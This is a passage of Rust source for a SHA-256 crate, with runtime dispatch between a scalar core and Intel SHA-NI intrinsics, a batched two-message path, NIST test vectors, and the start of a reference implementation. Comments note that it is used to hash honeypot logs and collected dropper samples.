//! `HF_HASH_FORCE_SCALAR=1` in the environment forces the unrolled scalar
//! core even where SHA-NI is available — CI uses this to keep the portable
//! path exercised on any runner, and it is the escape hatch if a backend is
//! ever suspect in production.
//!
//! # Throughput accounting
//!
//! Every finalized digest records `hash.bytes` (message bytes) and
//! `hash.blocks` (64-byte compression blocks, including padding) to hf-obs,
//! so run manifests can derive hash throughput (`hfarm metrics` prints it).

pub mod reference;
pub(crate) mod scalar;
#[cfg(target_arch = "x86_64")]
pub(crate) mod shani;

use std::sync::OnceLock;

/// Initial hash values: first 32 bits of the fractional parts of the square
/// roots of the first 8 primes.
pub(crate) const H0: [u32; 8] = [
    0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a, 0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19,
];

/// Round constants: first 32 bits of the fractional parts of the cube roots of
/// the first 64 primes.
pub(crate) const K: [u32; 64] = [
    0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5,
    0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe, 0x9bdc06a7, 0xc19bf174,
    0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f, 0x4a7484aa, 0x5cb0a9dc, 0x76f988da,
    0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7, 0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967,
    0x27b70a85, 0x2e1b2138, 0x4d2c6dfc, 0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85,
    0xa2bfe8a1, 0xa81a664b, 0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070,
    0x19a4c116, 0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
    0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7, 0xc67178f2,
];

/// A finished 256-bit digest.
#[derive(Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Digest(pub [u8; 32]);

impl Digest {
    /// Lowercase hex rendering of the digest (64 chars).
    pub fn to_hex(&self) -> String {
        crate::hex::encode_hex(&self.0)
    }

    /// Parse a 64-char hex string into a digest.
    pub fn from_hex(s: &str) -> Result<Self, crate::hex::HexError> {
        let bytes = crate::hex::decode_hex(s)?;
        let arr: [u8; 32] = bytes
            .try_into()
            .map_err(|_| crate::hex::HexError::BadLength)?;
        Ok(Digest(arr))
    }

    /// A short 12-hex-char prefix, convenient for log lines and tables.
    pub fn short(&self) -> String {
        self.to_hex()[..12].to_string()
    }
}

impl serde::Serialize for Digest {
    /// Serializes as a 64-char lowercase hex string — the format Cowrie logs
    /// and the analyses exchange.
    fn to_value(&self) -> serde::Value {
        serde::Value::Str(self.to_hex())
    }
}

impl serde::Deserialize for Digest {
    fn from_value(v: &serde::Value) -> Result<Self, serde::Error> {
        let s = <String as serde::Deserialize>::from_value(v)?;
        Digest::from_hex(&s).map_err(serde::de::Error::custom)
    }
}

impl std::fmt::Debug for Digest {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "Digest({})", self.to_hex())
    }
}

impl std::fmt::Display for Digest {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.to_hex())
    }
}

/// Render the big-endian word state as a digest.
pub(crate) fn digest_from_state(state: &[u32; 8]) -> Digest {
    let mut out = [0u8; 32];
    for (chunk, word) in out.chunks_exact_mut(4).zip(state.iter()) {
        chunk.copy_from_slice(&word.to_be_bytes());
    }
    Digest(out)
}

/// Number of 64-byte compression blocks a `len`-byte message occupies once
/// padded (0x80 + zeros + 8-byte length).
pub(crate) fn padded_blocks(len: u64) -> u64 {
    len / 64 + if len % 64 >= 56 { 2 } else { 1 }
}

/// Materialize block `i` of the padded form of `data` (`n` = `padded_blocks`).
///
/// Interior blocks are returned as raw pointers into `data` (no copy); the
/// final one or two blocks are synthesized into `tmp`. This lets the
/// multi-buffer SHA-NI path walk two messages of unequal length in lockstep
/// without ever concatenating or copying the bodies.
#[cfg(target_arch = "x86_64")]
#[inline(always)]
pub(crate) fn padded_block_ptr(data: &[u8], i: u64, n: u64, tmp: &mut [u8; 64]) -> *const u8 {
    let start = (i * 64) as usize;
    if start + 64 <= data.len() {
        return data[start..].as_ptr();
    }
    *tmp = [0u8; 64];
    if start <= data.len() {
        let tail = &data[start..];
        tmp[..tail.len()].copy_from_slice(tail);
        // The 0x80 terminator lands in this block iff the message ends here.
        tmp[tail.len()] = 0x80;
    }
    if i == n - 1 {
        let bit_len = (data.len() as u64).wrapping_mul(8);
        tmp[56..].copy_from_slice(&bit_len.to_be_bytes());
    }
    tmp.as_ptr()
}

/// Hash two independent messages with interleaved compression rounds.
type DigestPairFn = fn(&[u8], &[u8]) -> (Digest, Digest);

/// A selected compression backend: a multi-block compress entry point plus an
/// optional batched two-message path.
struct Backend {
    name: &'static str,
    /// Compress `data` (length a multiple of 64) into `state`.
    compress: fn(&mut [u32; 8], &[u8]),
    digest_pair: Option<DigestPairFn>,
}

static SCALAR_BACKEND: Backend = Backend {
    name: "scalar-unrolled",
    compress: scalar::compress_blocks,
    digest_pair: None,
};

#[cfg(target_arch = "x86_64")]
static SHANI_BACKEND: Backend = Backend {
    name: "sha-ni",
    compress: shani::compress_blocks,
    digest_pair: Some(shani::digest_pair),
};

/// `HF_HASH_FORCE_SCALAR` (any value other than empty/`0`) pins the portable
/// scalar core. Read once; the choice is process-wide.
fn force_scalar() -> bool {
    matches!(std::env::var("HF_HASH_FORCE_SCALAR"), Ok(v) if !v.is_empty() && v != "0")
}

fn backend() -> &'static Backend {
    static CHOICE: OnceLock<&'static Backend> = OnceLock::new();
    CHOICE.get_or_init(|| {
        if force_scalar() {
            return &SCALAR_BACKEND;
        }
        #[cfg(target_arch = "x86_64")]
        if shani::available() {
            return &SHANI_BACKEND;
        }
        &SCALAR_BACKEND
    })
}

/// Streaming SHA-256 state.
#[derive(Clone)]
pub struct Sha256 {
    state: [u32; 8],
    /// Bytes buffered, always < 64 after `update` returns.
    buf: [u8; 64],
    buf_len: usize,
    /// Total message length in bytes.
    total_len: u64,
}

impl Default for Sha256 {
    fn default() -> Self {
        Self::new()
    }
}

impl Sha256 {
    /// Fresh hasher state.
    pub fn new() -> Self {
        Sha256 {
            state: H0,
            buf: [0u8; 64],
            buf_len: 0,
            total_len: 0,
        }
    }

    /// Name of the compression backend this process dispatches to
    /// (`"sha-ni"` or `"scalar-unrolled"`).
    pub fn backend_name() -> &'static str {
        backend().name
    }

    /// One-shot convenience: hash `data` in a single call.
    pub fn digest(data: &[u8]) -> Digest {
        let mut h = Sha256::new();
        h.update(data);
        h.finalize()
    }

    /// Hash a batch of independent messages, one digest per message.
    ///
    /// Semantically `bodies.map(Sha256::digest)`, and output order always
    /// matches input order. On SHA-NI hardware consecutive pairs of messages
    /// are hashed with interleaved compression rounds, hiding the
    /// `sha256rnds2` dependency chain — this is the fastest way to checksum
    /// a day's distinct dropper bodies or a snapshot's chunk manifest.
    pub fn digest_many<'a>(bodies: impl IntoIterator<Item = &'a [u8]>, out: &mut Vec<Digest>) {
        let be = backend();
        let Some(pair) = be.digest_pair else {
            for body in bodies {
                out.push(Sha256::digest(body));
            }
            return;
        };
        let (mut bytes, mut blocks) = (0u64, 0u64);
        let mut pending: Option<&[u8]> = None;
        for body in bodies {
            match pending.take() {
                None => pending = Some(body),
                Some(first) => {
                    let (d0, d1) = pair(first, body);
                    out.push(d0);
                    out.push(d1);
                    bytes += first.len() as u64 + body.len() as u64;
                    blocks += padded_blocks(first.len() as u64) + padded_blocks(body.len() as u64);
                }
            }
        }
        if let Some(last) = pending {
            // Odd tail goes through the ordinary path (which records its own
            // throughput counters in `finalize`).
            out.push(Sha256::digest(last));
        }
        if bytes > 0 {
            hf_obs::counter!("hash.bytes", bytes);
            hf_obs::counter!("hash.blocks", blocks);
        }
    }

    /// Absorb more message bytes.
    pub fn update(&mut self, mut data: &[u8]) {
        let compress = backend().compress;
        self.total_len = self.total_len.wrapping_add(data.len() as u64);
        // Top up a partially filled block first.
        if self.buf_len > 0 {
            let need = 64 - self.buf_len;
            let take = need.min(data.len());
            self.buf[self.buf_len..self.buf_len + take].copy_from_slice(&data[..take]);
            self.buf_len += take;
            data = &data[take..];
            if self.buf_len == 64 {
                let block = self.buf;
                compress(&mut self.state, &block);
                self.buf_len = 0;
            }
        }
        // Whole blocks straight from the input, one backend call for the run.
        let whole = data.len() / 64 * 64;
        if whole > 0 {
            compress(&mut self.state, &data[..whole]);
            data = &data[whole..];
        }
        // Stash the tail.
        if !data.is_empty() {
            self.buf[..data.len()].copy_from_slice(data);
            self.buf_len = data.len();
        }
    }

    /// Apply padding and produce the digest, consuming the state.
    pub fn finalize(mut self) -> Digest {
        let compress = backend().compress;
        let bit_len = self.total_len.wrapping_mul(8);
        // Padding: 0x80, zeros, then the 64-bit big-endian bit length — one
        // or two final blocks depending on how much room the tail leaves.
        let mut tail = [0u8; 128];
        tail[..self.buf_len].copy_from_slice(&self.buf[..self.buf_len]);
        tail[self.buf_len] = 0x80;
        let tail_blocks = if self.buf_len >= 56 { 2 } else { 1 };
        tail[tail_blocks * 64 - 8..tail_blocks * 64].copy_from_slice(&bit_len.to_be_bytes());
        compress(&mut self.state, &tail[..tail_blocks * 64]);
        hf_obs::counter!("hash.bytes", self.total_len);
        hf_obs::counter!("hash.blocks", padded_blocks(self.total_len));
        digest_from_state(&self.state)
    }
}

impl std::io::Write for Sha256 {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.update(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

/// One-shot digest through an explicit compress function — the shared driver
/// behind the per-backend entry points in [`backends`].
fn digest_with(compress: fn(&mut [u32; 8], &[u8]), data: &[u8]) -> Digest {
    let mut state = H0;
    let whole = data.len() / 64 * 64;
    if whole > 0 {
        compress(&mut state, &data[..whole]);
    }
    let rem = data.len() - whole;
    let mut tail = [0u8; 128];
    tail[..rem].copy_from_slice(&data[whole..]);
    tail[rem] = 0x80;
    let tail_blocks = if rem >= 56 { 2 } else { 1 };
    let bit_len = (data.len() as u64).wrapping_mul(8);
    tail[tail_blocks * 64 - 8..tail_blocks * 64].copy_from_slice(&bit_len.to_be_bytes());
    compress(&mut state, &tail[..tail_blocks * 64]);
    digest_from_state(&state)
}

/// Direct per-backend entry points for differential testing and benches.
///
/// Production code should use [`Sha256`], which dispatches automatically;
/// these bypass dispatch so every backend stays testable on one machine.
pub mod backends {
    use super::Digest;

    /// Digest through the schedule-unrolled scalar core, ignoring dispatch.
    pub fn scalar_digest(data: &[u8]) -> Digest {
        super::digest_with(super::scalar::compress_blocks, data)
    }

    /// Digest through the single-stream SHA-NI core, or `None` when the CPU
    /// does not expose the SHA extensions.
    pub fn shani_digest(data: &[u8]) -> Option<Digest> {
        #[cfg(target_arch = "x86_64")]
        if super::shani::available() {
            return Some(super::digest_with(super::shani::compress_blocks, data));
        }
        #[cfg(not(target_arch = "x86_64"))]
        let _ = data;
        None
    }

    /// Digest two messages through the two-way interleaved SHA-NI path, or
    /// `None` when the CPU does not expose the SHA extensions.
    pub fn shani_digest_pair(a: &[u8], b: &[u8]) -> Option<(Digest, Digest)> {
        #[cfg(target_arch = "x86_64")]
        if super::shani::available() {
            return Some(super::shani::digest_pair(a, b));
        }
        #[cfg(not(target_arch = "x86_64"))]
        let _ = (a, b);
        None
    }

    /// Name of the backend the process would dispatch to.
    pub fn active() -> &'static str {
        super::Sha256::backend_name()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// NIST / well-known test vectors.
    pub(super) const VECTORS: &[(&[u8], &str)] = &[
        (
            b"",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        ),
        (
            b"abc",
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",
        ),
        (
            b"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq",
            "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1",
        ),
        (
            b"abcdefghbcdefghicdefghijdefghijkefghijklfghijklmghijklmnhijklmnoijklmnopjklmnopqklmnopqrlmnopqrsmnopqrstnopqrstu",
            "cf5b16a778af8380036ce59e7b0492370b249b11e8f07a51afac45037afee9d1",
        ),
        (
            b"The quick brown fox jumps over the lazy dog",
            "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592",
        ),
    ];

    #[test]
    fn known_vectors_one_shot() {
        for (msg, want) in VECTORS {
            assert_eq!(Sha256::digest(msg).to_hex(), *want, "msg={msg:?}");
        }
    }

    #[test]
    fn million_a() {
        let mut h = Sha256::new();
        let chunk = [b'a'; 1000];
        for _ in 0..1000 {
            h.update(&chunk);
        }
        assert_eq!(
            h.finalize().to_hex(),
            "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0"
        );
    }

    #[test]
    fn incremental_matches_one_shot_at_all_split_points() {
        let data: Vec<u8> = (0..257u16).map(|i| (i % 251) as u8).collect();
        let want = Sha256::digest(&data);
        for split in 0..=data.len() {
            let mut h = Sha256::new();
            h.update(&data[..split]);
            h.update(&data[split..]);
            assert_eq!(h.finalize(), want, "split={split}");
        }
    }

    #[test]
    fn boundary_lengths() {
        // Exercise messages at and around the padding boundaries (55/56/63/64).
        for len in [0usize, 1, 54, 55, 56, 57, 63, 64, 65, 119, 120, 127, 128] {
            let data = vec![0xa5u8; len];
            let one = Sha256::digest(&data);
            let mut inc = Sha256::new();
            for b in &data {
                inc.update(std::slice::from_ref(b));
            }
            assert_eq!(inc.finalize(), one, "len={len}");
        }
    }

    #[test]
    fn digest_hex_roundtrip() {
        let d = Sha256::digest(b"roundtrip");
        let parsed = Digest::from_hex(&d.to_hex()).unwrap();
        assert_eq!(parsed, d);
        assert_eq!(d.short().len(), 12);
    }

    #[test]
    fn distinct_inputs_distinct_digests() {
        // Sanity: tiny perturbations change the digest.
        let a = Sha256::digest(b"campaign-1");
        let b = Sha256::digest(b"campaign-2");
        assert_ne!(a, b);
    }

    #[test]
    fn write_trait_feeds_hasher() {
        use std::io::Write;
        let mut h = Sha256::new();
        h.write_all(b"The quick brown fox jumps over the lazy dog")
            .unwrap();
        assert_eq!(
            h.finalize().to_hex(),
            "d7a8fbb307d7809469ca9abcb0082e4f8d5651e46d3cdb762d02d0bf37c9e592"
        );
    }

    #[test]
    fn digest_many_matches_per_message_digests() {
        let bodies: Vec<Vec<u8>> = (0..9usize)
            .map(|i| (0..i * 37 + 1).map(|j| (i * 131 + j) as u8).collect())
            .collect();
        let refs: Vec<&[u8]> = bodies.iter().map(|b| b.as_slice()).collect();
        let mut batched = Vec::new();
        Sha256::digest_many(refs.iter().copied(), &mut batched);
        let singles: Vec<Digest> = refs.iter().map(|b| Sha256::digest(b)).collect();
        assert_eq!(batched, singles);
    }

    #[test]
    fn padded_blocks_boundaries() {
        for (len, want) in [
            (0u64, 1u64),
            (1, 1),
            (55, 1),
            (56, 2),
            (63, 2),
            (64, 2),
            (119, 2),
            (120, 3),
            (128, 3),
        ] {
            assert_eq!(padded_blocks(len), want, "len={len}");
        }
    }
}
