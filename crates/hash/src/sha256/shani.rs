//! Intel SHA New Instructions (SHA-NI) backend, x86-64 only.
//!
//! Selected at runtime by the dispatcher in the parent module when
//! `is_x86_feature_detected!` reports the `sha` extension (plus `ssse3` /
//! `sse4.1` for the byte shuffles and blends the state permutation needs).
//!
//! Two entry points:
//!
//! - [`compress_blocks`] — single-stream: one `sha256rnds2` chain, state kept
//!   in two XMM registers (ABEF/CDGH lane order) across a whole run of blocks.
//! - [`digest_pair`] — two independent messages walked block-by-block in
//!   lockstep with their round instructions interleaved. `sha256rnds2` has a
//!   multi-cycle latency and a much shorter throughput slot, so a second
//!   independent dependency chain hides most of that latency; unequal message
//!   lengths are handled by synthesizing the final pad blocks on the fly
//!   (`padded_block_ptr`) and finishing the longer stream single-stream.
//!
//! The round structure follows the canonical SHA-NI flow (message quads
//! extended with `sha256msg1`/`sha256msg2`, four rounds per `rnds2` pair);
//! correctness is pinned by the NIST vectors and the differential suite
//! against [`super::reference`] in `crates/hash/tests/backends.rs`.

use core::arch::x86_64::*;

use super::{digest_from_state, padded_block_ptr, padded_blocks, Digest, H0, K};

/// Lane masks turning little-endian loaded message bytes into big-endian
/// 32-bit schedule words (`_mm_shuffle_epi8` control).
const BSWAP_LO: i64 = 0x0405_0607_0001_0203;
const BSWAP_HI: i64 = 0x0c0d_0e0f_0809_0a0b;

/// Runtime capability check for this backend.
pub(super) fn available() -> bool {
    std::arch::is_x86_feature_detected!("sha")
        && std::arch::is_x86_feature_detected!("ssse3")
        && std::arch::is_x86_feature_detected!("sse4.1")
}

/// Compress a run of whole 64-byte blocks into `state`.
///
/// Panics in debug builds if `data` is not block-aligned. Safe to call only
/// because the dispatcher guarantees `available()` returned true.
pub(super) fn compress_blocks(state: &mut [u32; 8], data: &[u8]) {
    debug_assert_eq!(data.len() % 64, 0, "whole blocks only");
    // SAFETY: the dispatcher only selects this backend after `available()`.
    unsafe { compress_blocks_ni(state, data) }
}

/// Hash two independent messages with interleaved compression rounds.
pub(super) fn digest_pair(a: &[u8], b: &[u8]) -> (Digest, Digest) {
    // SAFETY: the dispatcher only selects this backend after `available()`.
    unsafe { digest_pair_ni(a, b) }
}

/// Four rounds fed by an already-extended schedule quad in `$feed`.
macro_rules! quad {
    ($s0:ident, $s1:ident, $feed:expr, $ki:expr) => {{
        let k = _mm_loadu_si128(K.as_ptr().add($ki) as *const __m128i);
        let mut msg = _mm_add_epi32($feed, k);
        $s1 = _mm_sha256rnds2_epu32($s1, $s0, msg);
        msg = _mm_shuffle_epi32::<0x0E>(msg);
        $s0 = _mm_sha256rnds2_epu32($s0, $s1, msg);
    }};
}

/// Load + byte-swap message quad `$off` into `$m`, then run its four rounds.
macro_rules! quad_load {
    ($s0:ident, $s1:ident, $m:ident, $p:ident, $off:expr, $mask:ident, $ki:expr) => {{
        $m = _mm_shuffle_epi8(_mm_loadu_si128($p.add($off) as *const __m128i), $mask);
        quad!($s0, $s1, $m, $ki);
    }};
}

/// Four rounds from `$feed` plus schedule extension:
/// `$next = sha256msg2($next + alignr($feed, $prev, 4), $feed)` and (except
/// for the tail groups, which no later quad consumes)
/// `$prev = sha256msg1($prev, $feed)`.
macro_rules! quad_sched {
    ($s0:ident, $s1:ident, $feed:ident, $prev:ident, $next:ident, $ki:expr) => {{
        quad_sched!($s0, $s1, $feed, $prev, $next, $ki, tail);
        $prev = _mm_sha256msg1_epu32($prev, $feed);
    }};
    ($s0:ident, $s1:ident, $feed:ident, $prev:ident, $next:ident, $ki:expr, tail) => {{
        let k = _mm_loadu_si128(K.as_ptr().add($ki) as *const __m128i);
        let mut msg = _mm_add_epi32($feed, k);
        $s1 = _mm_sha256rnds2_epu32($s1, $s0, msg);
        let tmp = _mm_alignr_epi8::<4>($feed, $prev);
        $next = _mm_add_epi32($next, tmp);
        $next = _mm_sha256msg2_epu32($next, $feed);
        msg = _mm_shuffle_epi32::<0x0E>(msg);
        $s0 = _mm_sha256rnds2_epu32($s0, $s1, msg);
    }};
}

/// Load `[a, b, c, d, e, f, g, h]` words into the (ABEF, CDGH) register pair
/// the SHA instructions operate on.
#[inline(always)]
unsafe fn load_state(state: &[u32; 8]) -> (__m128i, __m128i) {
    let mut tmp = _mm_loadu_si128(state.as_ptr() as *const __m128i);
    let mut efgh = _mm_loadu_si128(state.as_ptr().add(4) as *const __m128i);
    tmp = _mm_shuffle_epi32::<0xB1>(tmp); // CDAB
    efgh = _mm_shuffle_epi32::<0x1B>(efgh); // HGFE
    let abef = _mm_alignr_epi8::<8>(tmp, efgh);
    let cdgh = _mm_blend_epi16::<0xF0>(efgh, tmp);
    (abef, cdgh)
}

/// Inverse of [`load_state`].
#[inline(always)]
unsafe fn store_state(state: &mut [u32; 8], abef: __m128i, cdgh: __m128i) {
    let tmp = _mm_shuffle_epi32::<0x1B>(abef); // FEBA
    let rev = _mm_shuffle_epi32::<0xB1>(cdgh); // DCHG
    let abcd = _mm_blend_epi16::<0xF0>(tmp, rev);
    let efgh = _mm_alignr_epi8::<8>(rev, tmp);
    _mm_storeu_si128(state.as_mut_ptr() as *mut __m128i, abcd);
    _mm_storeu_si128(state.as_mut_ptr().add(4) as *mut __m128i, efgh);
}

/// One 64-byte block, single stream. `p` must point at 64 readable bytes.
#[inline]
#[target_feature(enable = "sha,sse2,ssse3,sse4.1")]
unsafe fn block1(s0: &mut __m128i, s1: &mut __m128i, p: *const u8, mask: __m128i) {
    let mut a0 = *s0;
    let mut a1 = *s1;
    let save0 = a0;
    let save1 = a1;
    let (mut m0, mut m1, mut m2, mut m3);
    quad_load!(a0, a1, m0, p, 0, mask, 0);
    quad_load!(a0, a1, m1, p, 16, mask, 4);
    m0 = _mm_sha256msg1_epu32(m0, m1);
    quad_load!(a0, a1, m2, p, 32, mask, 8);
    m1 = _mm_sha256msg1_epu32(m1, m2);
    m3 = _mm_shuffle_epi8(_mm_loadu_si128(p.add(48) as *const __m128i), mask);
    quad_sched!(a0, a1, m3, m2, m0, 12);
    quad_sched!(a0, a1, m0, m3, m1, 16);
    quad_sched!(a0, a1, m1, m0, m2, 20);
    quad_sched!(a0, a1, m2, m1, m3, 24);
    quad_sched!(a0, a1, m3, m2, m0, 28);
    quad_sched!(a0, a1, m0, m3, m1, 32);
    quad_sched!(a0, a1, m1, m0, m2, 36);
    quad_sched!(a0, a1, m2, m1, m3, 40);
    quad_sched!(a0, a1, m3, m2, m0, 44);
    quad_sched!(a0, a1, m0, m3, m1, 48);
    quad_sched!(a0, a1, m1, m0, m2, 52, tail);
    quad_sched!(a0, a1, m2, m1, m3, 56, tail);
    quad!(a0, a1, m3, 60);
    *s0 = _mm_add_epi32(a0, save0);
    *s1 = _mm_add_epi32(a1, save1);
}

/// One 64-byte block for each of two independent streams, with the round
/// instructions of the two dependency chains interleaved quad-by-quad.
#[inline]
#[target_feature(enable = "sha,sse2,ssse3,sse4.1")]
#[allow(clippy::too_many_arguments)]
unsafe fn block2(
    s0a: &mut __m128i,
    s1a: &mut __m128i,
    s0b: &mut __m128i,
    s1b: &mut __m128i,
    pa: *const u8,
    pb: *const u8,
    mask: __m128i,
) {
    let mut a0 = *s0a;
    let mut a1 = *s1a;
    let mut b0 = *s0b;
    let mut b1 = *s1b;
    let save0a = a0;
    let save1a = a1;
    let save0b = b0;
    let save1b = b1;
    let (mut m0a, mut m1a, mut m2a, mut m3a);
    let (mut m0b, mut m1b, mut m2b, mut m3b);
    quad_load!(a0, a1, m0a, pa, 0, mask, 0);
    quad_load!(b0, b1, m0b, pb, 0, mask, 0);
    quad_load!(a0, a1, m1a, pa, 16, mask, 4);
    quad_load!(b0, b1, m1b, pb, 16, mask, 4);
    m0a = _mm_sha256msg1_epu32(m0a, m1a);
    m0b = _mm_sha256msg1_epu32(m0b, m1b);
    quad_load!(a0, a1, m2a, pa, 32, mask, 8);
    quad_load!(b0, b1, m2b, pb, 32, mask, 8);
    m1a = _mm_sha256msg1_epu32(m1a, m2a);
    m1b = _mm_sha256msg1_epu32(m1b, m2b);
    m3a = _mm_shuffle_epi8(_mm_loadu_si128(pa.add(48) as *const __m128i), mask);
    m3b = _mm_shuffle_epi8(_mm_loadu_si128(pb.add(48) as *const __m128i), mask);
    quad_sched!(a0, a1, m3a, m2a, m0a, 12);
    quad_sched!(b0, b1, m3b, m2b, m0b, 12);
    quad_sched!(a0, a1, m0a, m3a, m1a, 16);
    quad_sched!(b0, b1, m0b, m3b, m1b, 16);
    quad_sched!(a0, a1, m1a, m0a, m2a, 20);
    quad_sched!(b0, b1, m1b, m0b, m2b, 20);
    quad_sched!(a0, a1, m2a, m1a, m3a, 24);
    quad_sched!(b0, b1, m2b, m1b, m3b, 24);
    quad_sched!(a0, a1, m3a, m2a, m0a, 28);
    quad_sched!(b0, b1, m3b, m2b, m0b, 28);
    quad_sched!(a0, a1, m0a, m3a, m1a, 32);
    quad_sched!(b0, b1, m0b, m3b, m1b, 32);
    quad_sched!(a0, a1, m1a, m0a, m2a, 36);
    quad_sched!(b0, b1, m1b, m0b, m2b, 36);
    quad_sched!(a0, a1, m2a, m1a, m3a, 40);
    quad_sched!(b0, b1, m2b, m1b, m3b, 40);
    quad_sched!(a0, a1, m3a, m2a, m0a, 44);
    quad_sched!(b0, b1, m3b, m2b, m0b, 44);
    quad_sched!(a0, a1, m0a, m3a, m1a, 48);
    quad_sched!(b0, b1, m0b, m3b, m1b, 48);
    quad_sched!(a0, a1, m1a, m0a, m2a, 52, tail);
    quad_sched!(b0, b1, m1b, m0b, m2b, 52, tail);
    quad_sched!(a0, a1, m2a, m1a, m3a, 56, tail);
    quad_sched!(b0, b1, m2b, m1b, m3b, 56, tail);
    quad!(a0, a1, m3a, 60);
    quad!(b0, b1, m3b, 60);
    *s0a = _mm_add_epi32(a0, save0a);
    *s1a = _mm_add_epi32(a1, save1a);
    *s0b = _mm_add_epi32(b0, save0b);
    *s1b = _mm_add_epi32(b1, save1b);
}

#[target_feature(enable = "sha,sse2,ssse3,sse4.1")]
unsafe fn compress_blocks_ni(state: &mut [u32; 8], data: &[u8]) {
    let mask = _mm_set_epi64x(BSWAP_HI, BSWAP_LO);
    let (mut s0, mut s1) = load_state(state);
    for block in data.chunks_exact(64) {
        block1(&mut s0, &mut s1, block.as_ptr(), mask);
    }
    store_state(state, s0, s1);
}

#[target_feature(enable = "sha,sse2,ssse3,sse4.1")]
unsafe fn digest_pair_ni(a: &[u8], b: &[u8]) -> (Digest, Digest) {
    let mask = _mm_set_epi64x(BSWAP_HI, BSWAP_LO);
    let (mut s0a, mut s1a) = load_state(&H0);
    let (mut s0b, mut s1b) = load_state(&H0);
    let na = padded_blocks(a.len() as u64);
    let nb = padded_blocks(b.len() as u64);
    let common = na.min(nb);
    let mut ta = [0u8; 64];
    let mut tb = [0u8; 64];
    for i in 0..common {
        let pa = padded_block_ptr(a, i, na, &mut ta);
        let pb = padded_block_ptr(b, i, nb, &mut tb);
        block2(&mut s0a, &mut s1a, &mut s0b, &mut s1b, pa, pb, mask);
    }
    // The longer message finishes single-stream.
    for i in common..na {
        let pa = padded_block_ptr(a, i, na, &mut ta);
        block1(&mut s0a, &mut s1a, pa, mask);
    }
    for i in common..nb {
        let pb = padded_block_ptr(b, i, nb, &mut tb);
        block1(&mut s0b, &mut s1b, pb, mask);
    }
    let mut wa = [0u32; 8];
    let mut wb = [0u32; 8];
    store_state(&mut wa, s0a, s1a);
    store_state(&mut wb, s0b, s1b);
    (digest_from_state(&wa), digest_from_state(&wb))
}

#[cfg(test)]
mod tests {
    use super::super::reference;
    use super::*;

    #[test]
    fn shani_matches_reference_across_lengths() {
        if !available() {
            eprintln!("sha-ni unavailable; skipping");
            return;
        }
        for len in [
            0usize, 1, 3, 55, 56, 57, 63, 64, 65, 119, 120, 127, 128, 1000,
        ] {
            let data: Vec<u8> = (0..len).map(|i| (i * 31 + 7) as u8).collect();
            let want = reference::Sha256::digest(&data);
            let got = super::super::digest_with(compress_blocks, &data);
            assert_eq!(got, want, "len={len}");
        }
    }

    #[test]
    fn digest_pair_matches_reference_for_unequal_lengths() {
        if !available() {
            eprintln!("sha-ni unavailable; skipping");
            return;
        }
        let lens = [0usize, 1, 55, 56, 63, 64, 65, 119, 128, 300, 601];
        for &la in &lens {
            for &lb in &lens {
                let a: Vec<u8> = (0..la).map(|i| (i * 17 + 3) as u8).collect();
                let b: Vec<u8> = (0..lb).map(|i| (i * 29 + 11) as u8).collect();
                let (da, db) = digest_pair(&a, &b);
                assert_eq!(da, reference::Sha256::digest(&a), "la={la} lb={lb}");
                assert_eq!(db, reference::Sha256::digest(&b), "la={la} lb={lb}");
            }
        }
    }
}
