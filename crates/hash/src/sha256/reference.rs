//! The original straight-line scalar SHA-256, kept verbatim as the oracle.
//!
//! Every other backend (the unrolled scalar core, the SHA-NI paths) is tested
//! differentially against this implementation: same FIPS 180-4 spec, written
//! with no unrolling, no intrinsics, and no cleverness. It is deliberately
//! boring — do not optimise this module; optimise the dispatched backends in
//! the parent module instead.

use super::{Digest, H0, K};

/// Streaming SHA-256 state (reference implementation).
#[derive(Clone)]
pub struct Sha256 {
    state: [u32; 8],
    /// Bytes buffered, always < 64 after `update` returns.
    buf: [u8; 64],
    buf_len: usize,
    /// Total message length in bytes.
    total_len: u64,
}

impl Default for Sha256 {
    fn default() -> Self {
        Self::new()
    }
}

impl Sha256 {
    /// Fresh hasher state.
    pub fn new() -> Self {
        Sha256 {
            state: H0,
            buf: [0u8; 64],
            buf_len: 0,
            total_len: 0,
        }
    }

    /// One-shot convenience: hash `data` in a single call.
    pub fn digest(data: &[u8]) -> Digest {
        let mut h = Sha256::new();
        h.update(data);
        h.finalize()
    }

    /// Absorb more message bytes.
    pub fn update(&mut self, mut data: &[u8]) {
        self.total_len = self.total_len.wrapping_add(data.len() as u64);
        // Top up a partially filled block first.
        if self.buf_len > 0 {
            let need = 64 - self.buf_len;
            let take = need.min(data.len());
            self.buf[self.buf_len..self.buf_len + take].copy_from_slice(&data[..take]);
            self.buf_len += take;
            data = &data[take..];
            if self.buf_len == 64 {
                let block = self.buf;
                self.compress(&block);
                self.buf_len = 0;
            }
        }
        // Whole blocks straight from the input.
